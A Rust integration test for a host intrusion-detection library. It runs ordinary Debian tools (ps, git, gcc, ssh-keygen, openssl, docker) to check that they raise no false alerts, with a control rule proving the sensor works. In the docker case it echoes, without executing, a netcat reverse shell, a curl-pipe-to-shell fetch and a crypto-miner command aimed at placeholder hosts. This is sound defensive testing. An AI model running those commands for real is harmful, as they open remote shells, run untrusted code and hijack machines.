//! Host rules need benign neighbours too: common developer and administration tools
//! run on this Debian host, for real, under the real sensor and the library, must not
//! raise any of the library's alerts. Each tool runs only when installed here (what
//! ran is printed, and enough must run for the test to mean something). A positive
//! control must fire for the same harness, so the quiet result cannot come from a
//! blind sensor: a harmless file open matched by the harness's own control rule
//! (tests/data/control_rules.yaml), not an attack staged on the host, which a noise
//! watcher running the shipped rules beside the test suite would rightly report.
//!
//! Needs root, the kernel and dockerd (the docker CLI case): skips with the reason
//! elsewhere, fails in CI.

use std::process::Command;
use std::time::{Duration, Instant};

use rampart_detect_e2e::{detector, ready, TestContainer};

/// Each: a name, the programs it needs, and the script (run by `sh FILE` on the host,
/// in a scratch directory holding a copy of this crate's sources; `$C` names a
/// running test container).
const TOOLS: &[(&str, &[&str], &str)] = &[
    ("process and system views", &["ps", "top", "pgrep", "free", "df", "ss", "ip"],
     "ps aux >/dev/null; top -bn1 >/dev/null; pgrep -a sh >/dev/null; free -m >/dev/null; df -h >/dev/null; ss -tlnp >/dev/null; ip addr >/dev/null; id; uname -a"),
    ("systemd and the journal", &["systemctl", "journalctl"],
     "systemctl --version >/dev/null; journalctl -n 5 --no-pager >/dev/null 2>&1; true"),
    ("apt and dpkg queries", &["apt-cache", "dpkg"],
     "apt-cache policy bash >/dev/null; dpkg -l bash >/dev/null; dpkg -S /bin/ls >/dev/null"),
    ("needrestart's process scan (reads /proc/*/environ)", &["needrestart"],
     "needrestart -b -r l >/dev/null 2>&1; true"),
    ("searching a source checkout", &["grep", "find"],
     "grep -rn secret src >/dev/null; grep -rln password . >/dev/null; find . -name '*.rs' -newer Cargo.toml >/dev/null; true"),
    ("git in a repository", &["git"],
     "git init -q repo && cd repo && git config user.email t@example && git config user.name t && cp ../Cargo.toml . && git add . && git commit -qm x && git log --oneline >/dev/null && git gc -q"),
    ("a Python virtual environment", &["python3"],
     "python3 -m venv venv && venv/bin/python -c 'import json; print(json.dumps(1))' >/dev/null && venv/bin/python -m pip --version >/dev/null"),
    ("pyenv interpreters", &["/root/.pyenv/bin/pyenv"],
     "for p in /root/.pyenv/versions/*/bin/python3; do \"$p\" -c 'import sys' || exit 1; done"),
    ("node and npm", &["node", "npm"],
     "node -e 'require(\"os\").hostname()' && npm --version >/dev/null"),
    ("compressing, editing and archiving many files", &["gzip", "sed", "tar"],
     "mkdir many && for i in $(seq 30); do seq 200 > many/f$i.txt; done; gzip -k many/*.txt; sed -i 's/1/one/' many/*.txt; tar czf many.tgz many; cp -r many many2"),
    ("logrotate with copytruncate", &["logrotate"],
     "echo line >> /var/log/rampart-host-tools-test.log && printf '%s\\n' '/var/log/rampart-host-tools-test.log {' '  copytruncate' '  rotate 1' '}' > lr.conf && logrotate -f -s lr.state lr.conf"),
    ("make driving gcc (compiler, assembler, linker)", &["make", "gcc"],
     "mkdir cbuild && printf '%s\\n' 'int main(void) { return 0; }' > cbuild/hello.c && printf 'hello: hello.c\\n\\tgcc -O2 -o hello hello.c\\n' > cbuild/Makefile && make -s -C cbuild && test -x cbuild/hello"),
    ("ssh-keygen writing a key and the ssh client offering it", &["ssh-keygen", "ssh"],
     "mkdir -m 700 sshdir && ssh-keygen -q -t ed25519 -N '' -f sshdir/id_ed25519 && ssh-keygen -y -f sshdir/id_ed25519 >/dev/null && ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i sshdir/id_ed25519 -p 1 nobody@127.0.0.1 true 2>/dev/null; true"),
    ("kubectl without a cluster", &["kubectl"],
     "kubectl version --client >/dev/null 2>&1; kubectl config view >/dev/null 2>&1; true"),
    ("apt-get simulating an install", &["apt-get"],
     "apt-get -s -q install --no-install-recommends hello >/dev/null 2>&1; true"),
    ("openssl making and reading a key", &["openssl"],
     "openssl genpkey -algorithm ed25519 -out key.pem 2>/dev/null && openssl pkey -in key.pem -pubout >/dev/null && openssl dgst -sha256 Cargo.toml >/dev/null"),
    ("PostgreSQL's client programs (Debian's Perl pg_wrapper reads /etc/shadow as root)", &["psql", "pg_isready"],
     "psql --version >/dev/null && pg_isready -h 127.0.0.1 -p 1 >/dev/null 2>&1; true"),
    ("strace following a command", &["strace"],
     "strace -f -o /dev/null true"),
    ("stdbuf line-buffering a pipeline (LD_PRELOAD of coreutils' libstdbuf)", &["stdbuf"],
     "stdbuf -oL ls / | stdbuf -i0 tr -d x >/dev/null"),
    ("the docker CLI carrying a container's command", &["docker", "timeout"],
     "timeout 20 docker exec \"$C\" sh -c 'echo nc -e /bin/sh 198.51.100.7 4444; echo curl -s http://198.51.100.7/x.sh \\| sh; echo xmrig -o pool.example:3333' >/dev/null; docker ps >/dev/null"),
];

fn installed(program: &str) -> bool {
    if program.starts_with('/') {
        return std::path::Path::new(program).exists();
    }
    Command::new("sh")
        .args(["-c", &format!("command -v {program} >/dev/null")])
        .status()
        .is_ok_and(|s| s.success())
}

/// Runs `script` as a script file (the way admin scripts and cron jobs run, rather
/// than one `sh -c` line), with `mark` as its argument so every process it starts
/// carries the mark in its ancestry.
fn run_on_host(mark: &str, script: &str, dir: &std::path::Path, container: &str) -> bool {
    let file = dir.join(format!("{mark}.sh"));
    if std::fs::write(&file, format!("{script}\n")).is_err() {
        return false;
    }
    Command::new("sh")
        .arg(&file)
        .arg(mark)
        .current_dir(dir)
        .env("C", container)
        .status()
        .is_ok_and(|s| s.success())
}

#[test]
fn common_host_tools_raise_no_library_alert() {
    if !ready() {
        return;
    }
    let d = detector();
    let container = TestContainer::start(
        &format!(
            "{}rampart-hosttools",
            std::env::var("RAMPART_TEST_CONTAINER_PREFIX").unwrap_or_default()
        ),
        &[],
        &["sleep", "600"],
    );
    let scratch = tempfile::tempdir().expect("scratch dir");
    let src = env!("CARGO_MANIFEST_DIR");
    let copied = Command::new("cp")
        .args(["-r", &format!("{src}/src"), &format!("{src}/Cargo.toml")])
        .arg(scratch.path())
        .status()
        .is_ok_and(|s| s.success());
    assert!(copied, "copy of the crate's sources");

    let mut ran = Vec::new();
    let mut failed = Vec::new();
    for (i, (name, needs, script)) in TOOLS.iter().enumerate() {
        if !needs.iter().all(|p| installed(p)) {
            eprintln!("not installed here, skipped: {name}");
            continue;
        }
        let mark = format!("hosttool{i:02}q");
        if run_on_host(&mark, script, scratch.path(), &container.name) {
            ran.push((name, mark));
        } else {
            failed.push(*name);
        }
    }
    assert!(failed.is_empty(), "host tool scripts failed: {failed:?}");
    assert!(ran.len() >= 6, "only {} tool sets ran", ran.len());

    // Positive control: the same harness sees a host process open a file.
    let control = "hosttoolctlq";
    assert!(run_on_host(
        control,
        "echo control > rampart-host-control && cat rampart-host-control >/dev/null",
        scratch.path(),
        &container.name
    ));
    let deadline = Instant::now() + Duration::from_secs(20);
    while d
        .host_matches_of_carrying("Test harness control file opened on the host", control)
        .is_empty()
    {
        assert!(
            Instant::now() < deadline,
            "the positive control did not fire: the sensor does not see host events"
        );
        std::thread::sleep(Duration::from_millis(250));
    }
    std::thread::sleep(Duration::from_secs(3));
    let mut loud = Vec::new();
    for (name, mark) in &ran {
        for m in d.our_host_matches_carrying(mark) {
            loud.push(format!("{name}: {} <- {}", m.rule, m.cmdline()));
        }
    }
    eprintln!("host tools run: {}", ran.len());
    assert!(
        loud.is_empty(),
        "host tools raised alerts:\n{}",
        loud.join("\n")
    );
}
